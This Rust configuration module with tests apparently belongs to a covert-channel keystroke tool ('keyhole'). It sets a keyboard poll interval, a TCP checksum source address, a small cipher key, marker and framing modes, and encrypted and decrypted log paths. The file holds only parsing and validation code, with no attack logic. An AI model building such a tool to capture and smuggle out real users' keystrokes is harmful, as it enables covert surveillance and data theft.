//! Configuration management

use anyhow::{Context, Result};
use protocol::constants::{DECRYPTED_LOG, DEFAULT_HOST, DEFAULT_KEY, ENCRYPTED_LOG};
use protocol::frame::MarkerMatch;
use protocol::receive::{Framing, ReceiveOptions};
use protocol::session::{self, Session};
use protocol::{Key, SessionError};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;
use std::path::Path;
use std::time::Duration;

#[derive(Debug, Clone, Default, Deserialize, Serialize)]
pub struct Config {
    #[serde(default)]
    pub session: SessionConfig,
    #[serde(default)]
    pub sender: SenderConfig,
    #[serde(default)]
    pub receiver: ReceiverConfig,
    #[serde(default)]
    pub logging: LoggingConfig,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
pub struct SessionConfig {
    #[serde(default = "default_host")]
    pub host: String,
    #[serde(default = "default_key")]
    pub key: u8,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
pub struct SenderConfig {
    /// Address used in the TCP checksum; detected from the routing table when unset
    #[serde(default)]
    pub source_address: Option<String>,
    #[serde(default = "default_keyboard_poll_ms")]
    pub poll_interval_ms: u64,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
pub struct ReceiverConfig {
    #[serde(default = "default_encrypted_log")]
    pub encrypted_log: String,
    #[serde(default = "default_decrypted_log")]
    pub decrypted_log: String,
    #[serde(default)]
    pub marker: MarkerMode,
    #[serde(default)]
    pub framing: FramingMode,
    #[serde(default = "default_group_size")]
    pub group_size: usize,
    #[serde(default = "default_idle_timeout_ms")]
    pub idle_timeout_ms: u64,
    #[serde(default = "default_capture_poll_ms")]
    pub poll_interval_ms: u64,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum MarkerMode {
    #[default]
    Bit,
    Exact,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum FramingMode {
    #[default]
    PerSymbol,
    Grouped,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
pub struct LoggingConfig {
    #[serde(default = "default_level")]
    pub level: String,
}

fn default_host() -> String {
    DEFAULT_HOST.to_string()
}

fn default_key() -> u8 {
    DEFAULT_KEY
}

fn default_keyboard_poll_ms() -> u64 {
    100
}

fn default_encrypted_log() -> String {
    ENCRYPTED_LOG.to_string()
}

fn default_decrypted_log() -> String {
    DECRYPTED_LOG.to_string()
}

fn default_group_size() -> usize {
    16
}

fn default_idle_timeout_ms() -> u64 {
    2000
}

fn default_capture_poll_ms() -> u64 {
    250
}

fn default_level() -> String {
    "info".to_string()
}

impl Default for SessionConfig {
    fn default() -> Self {
        Self {
            host: default_host(),
            key: default_key(),
        }
    }
}

impl Default for SenderConfig {
    fn default() -> Self {
        Self {
            source_address: None,
            poll_interval_ms: default_keyboard_poll_ms(),
        }
    }
}

impl Default for ReceiverConfig {
    fn default() -> Self {
        Self {
            encrypted_log: default_encrypted_log(),
            decrypted_log: default_decrypted_log(),
            marker: MarkerMode::default(),
            framing: FramingMode::default(),
            group_size: default_group_size(),
            idle_timeout_ms: default_idle_timeout_ms(),
            poll_interval_ms: default_capture_poll_ms(),
        }
    }
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            level: default_level(),
        }
    }
}

impl Config {
    pub fn load<P: AsRef<Path>>(path: P) -> Result<Self> {
        let contents = std::fs::read_to_string(&path)
            .with_context(|| format!("Failed to read config file: {:?}", path.as_ref()))?;

        let config = Self::parse(&contents)?;
        Ok(config)
    }

    pub fn parse(contents: &str) -> Result<Self> {
        let config: Config = toml::from_str(contents).context("Failed to parse config file")?;

        // Reject a bad host or key up front instead of at session start
        config.session().context("Invalid [session] section")?;
        config.sender.source_address().context("Invalid [sender] section")?;

        if config.receiver.poll_interval_ms == 0 || config.sender.poll_interval_ms == 0 {
            anyhow::bail!("poll_interval_ms must be greater than zero");
        }

        Ok(config)
    }

    /// Validated session parameters
    pub fn session(&self) -> Result<Session, SessionError> {
        let host = session::parse_host(&self.session.host)?;
        let key = Key::new(self.session.key)
            .map_err(|_| SessionError::InvalidKey(self.session.key.to_string()))?;
        Ok(Session::new(host, key))
    }

    pub fn receive_options(&self) -> ReceiveOptions {
        let marker = match self.receiver.marker {
            MarkerMode::Bit => MarkerMatch::Bit,
            MarkerMode::Exact => MarkerMatch::Exact,
        };

        let framing = match self.receiver.framing {
            FramingMode::PerSymbol => Framing::PerSymbol,
            FramingMode::Grouped => Framing::Grouped {
                max_symbols: self.receiver.group_size,
                idle_timeout: Duration::from_millis(self.receiver.idle_timeout_ms),
            },
        };

        ReceiveOptions { marker, framing }
    }
}

impl SenderConfig {
    pub fn source_address(&self) -> Result<Option<Ipv4Addr>, SessionError> {
        self.source_address
            .as_deref()
            .map(session::parse_host)
            .transpose()
    }

    pub fn poll_interval(&self) -> Duration {
        Duration::from_millis(self.poll_interval_ms)
    }
}

impl ReceiverConfig {
    pub fn poll_interval(&self) -> Duration {
        Duration::from_millis(self.poll_interval_ms)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use tempfile::TempDir;

    #[test]
    fn test_empty_config_uses_defaults() {
        let config = Config::parse("").unwrap();
        let session = config.session().unwrap();

        assert_eq!(session.host, Ipv4Addr::new(192, 168, 0, 1));
        assert_eq!(session.key.value(), 3);
        assert_eq!(config.receiver.encrypted_log, "enc_log.txt");
        assert_eq!(config.receiver.decrypted_log, "dec_log.txt");
        assert_eq!(config.receive_options(), ReceiveOptions::default());
        assert_eq!(config.sender.source_address().unwrap(), None);
    }

    #[test]
    fn test_full_config() {
        let config = Config::parse(
            r#"
[session]
host = "10.20.30.40"
key = 25

[sender]
source_address = "10.20.30.1"
poll_interval_ms = 50

[receiver]
encrypted_log = "/tmp/enc.txt"
decrypted_log = "/tmp/dec.txt"
marker = "exact"
framing = "grouped"
group_size = 4
idle_timeout_ms = 500

[logging]
level = "debug"
"#,
        )
        .unwrap();

        assert_eq!(config.session().unwrap().key.value(), 25);
        assert_eq!(
            config.sender.source_address().unwrap(),
            Some(Ipv4Addr::new(10, 20, 30, 1))
        );
        assert_eq!(
            config.receive_options(),
            ReceiveOptions {
                marker: MarkerMatch::Exact,
                framing: Framing::Grouped {
                    max_symbols: 4,
                    idle_timeout: Duration::from_millis(500),
                },
            }
        );
        assert_eq!(config.logging.level, "debug");
    }

    #[test]
    fn test_example_config_matches_defaults() {
        let config = Config::parse(include_str!("../../../keyhole.example.toml")).unwrap();
        assert_eq!(config.session().unwrap(), Config::default().session().unwrap());
        assert_eq!(config.receive_options(), ReceiveOptions::default());
    }

    #[test]
    fn test_rejects_invalid_session() {
        assert!(Config::parse("[session]\nkey = 26\n").is_err());
        assert!(Config::parse("[session]\nhost = \"example.com\"\n").is_err());
        assert!(Config::parse("[receiver]\nmarker = \"loose\"\n").is_err());
        assert!(Config::parse("[receiver]\npoll_interval_ms = 0\n").is_err());
    }

    #[test]
    fn test_load_from_file() {
        let temp = TempDir::new().unwrap();
        let path = temp.path().join("keyhole.toml");
        fs::write(&path, "[session]\nhost = \"127.0.0.1\"\nkey = 0\n").unwrap();

        let config = Config::load(&path).unwrap();
        assert_eq!(config.session().unwrap().host, Ipv4Addr::LOCALHOST);

        assert!(Config::load(temp.path().join("missing.toml")).is_err());
    }
}
